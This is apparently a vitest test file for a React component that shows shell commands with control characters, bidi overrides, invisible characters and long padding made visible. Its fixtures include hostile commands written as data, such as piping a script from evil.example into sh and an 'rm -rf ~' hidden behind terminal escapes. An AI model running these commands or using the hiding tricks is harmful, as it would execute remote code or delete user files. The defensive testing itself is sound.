import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { displayCommand, LONG_SPACE_RUN, type CommandPart } from './commandDisplay';
import { CommandText } from './CommandText';

/** What the user sees of each line: text as is, escapes and runs as their markers. */
const seen = (command: string) => displayCommand(command).lines.map((parts) => parts.map(show).join(''));
const show = (p: CommandPart) => (p.kind === 'text' ? p.text : p.kind === 'escape' ? `[${p.shown}]` : `[${p.count} ${p.what}]`);
/** The parts together give back the command, character for character. */
const joined = (command: string) => displayCommand(command).lines.map((parts) => parts.map((p) => p.text).join('')).join('\n');

describe('displayCommand', () => {
  it('an ordinary command is one line of plain text with no warning', () => {
    const cmd = 'curl -fsSL https://evil.example/install.sh | sh';
    expect(displayCommand(cmd)).toEqual({ lines: [[{ kind: 'text', text: cmd }]], flags: [], lineCount: 1 });
  });

  it('control characters become marked \\x escapes and a warning', () => {
    const cmd = 'echo ok\u001b[2K\rrm -rf ~\u0007\u007f\u0085\u0000';
    expect(seen(cmd)).toEqual(['echo ok[\\x1B][2K[\\x0D]rm -rf ~[\\x07][\\x7F][\\x85][\\x00]']);
    const { flags } = displayCommand(cmd);
    expect(flags).toHaveLength(1);
    expect(flags[0]).toBe('Control characters, shown as marked escapes: \\x1B ESCAPE, \\x0D CARRIAGE RETURN, \\x07 BEL, \\x7F DELETE, \\x85 NEXT LINE, \\x00 NUL');
    expect(joined(cmd)).toBe(cmd);
  });

  it('bidi overrides and isolates are shown as escapes, never applied (Trojan Source)', () => {
    const cmd = 'echo "\u202Etxt.exe\u202C" \u2066# safe\u2069; \u200Fcurl x | sh';
    expect(seen(cmd)).toEqual(['echo "[\\u202E]txt.exe[\\u202C]" [\\u2066]# safe[\\u2069]; [\\u200F]curl x | sh']);
    expect(displayCommand(cmd).flags.join('\n')).toMatch(/bidi controls.*RIGHT-TO-LEFT OVERRIDE/);
    expect(joined(cmd)).toBe(cmd);
  });

  it('zero-width, odd spaces and tag characters are marked as invisible', () => {
    const cmd = 'rm\u200B -rf\u00A0/tmp/x \u{E0041}';
    expect(seen(cmd)).toEqual(['rm[\\u200B] -rf[\\u00A0]/tmp/x [\\u{E0041}]']);
    expect(displayCommand(cmd).flags.join('\n')).toMatch(/Invisible.*ZERO WIDTH SPACE.*NO-BREAK SPACE/);
  });

  it('a long run of spaces is collapsed and counted; short alignment stays as it is', () => {
    const pad = ' '.repeat(200);
    expect(seen(`npm test${pad}; curl x | sh`)).toEqual(['npm test[200 spaces]; curl x | sh']);
    expect(displayCommand(`npm test${pad}; x`).flags).toEqual(['Long runs of spaces (collapsed, counted): 200']);
    const aligned = `printf '%s${' '.repeat(LONG_SPACE_RUN - 1)}%s'`;
    expect(seen(aligned)).toEqual([aligned]);
    expect(joined(`a${pad}\tb`)).toBe(`a${pad}\tb`);
  });

  it('a tab is shown as an arrow, without a warning', () => {
    expect(seen('printf "a\tb"')).toEqual(['printf "a[⇥]b"']);
    expect(displayCommand('printf "a\tb"').flags).toEqual([]);
  });

  it('a multi-line command is one entry per line; a long run of empty lines is collapsed and counted', () => {
    expect(seen('npm test\nnpm run lint\n')).toEqual(['npm test', 'npm run lint', '']);
    expect(displayCommand('a\nb').lineCount).toBe(2);
    const hidden = `npm test${'\n'.repeat(60)}curl x | sh`;
    expect(seen(hidden)).toEqual(['npm test', '[59 empty lines]', 'curl x | sh']);
    expect(displayCommand(hidden).flags).toEqual(['Runs of empty lines (collapsed, counted): 59']);
    expect(joined(hidden)).toBe(hidden);
    expect(seen('a\n\nb')).toEqual(['a', '', 'b']);
  });
});

describe('CommandText', () => {
  const html = (command: string) => renderToStaticMarkup(<CommandText command={command} testId="command-text" />);

  it('renders an ordinary command as exactly its text, with no warning', () => {
    const out = html('git log -1 && echo "<b>"');
    expect(out).toContain('<pre class="command-box" data-testid="command-text" tabindex="0" aria-label="Command"><span class="command-line">git log -1 &amp;&amp; echo &quot;&lt;b&gt;&quot;</span></pre>');
    expect(out).not.toContain('command-flags');
  });

  it('marks escapes, warns above the box, and numbers the lines of a multi-line command', () => {
    const out = html('echo \u001b[31m\necho \u202Eoops');
    expect(out).toContain('data-testid="command-flags"');
    expect(out).toContain('<mark class="command-escape control" title="ESCAPE (\\x1B)" data-kind="control">\\x1B</mark>');
    expect(out).toContain('<mark class="command-escape bidi" title="RIGHT-TO-LEFT OVERRIDE (\\u202E)" data-kind="bidi">\\u202E</mark>');
    expect(out).toContain('class="command-box multi"');
    expect(out).toContain('2 lines — each one runs');
    // The raw control characters never reach the page.
    expect(out.includes('\u001b') || out.includes('\u202E')).toBe(false);
  });
});
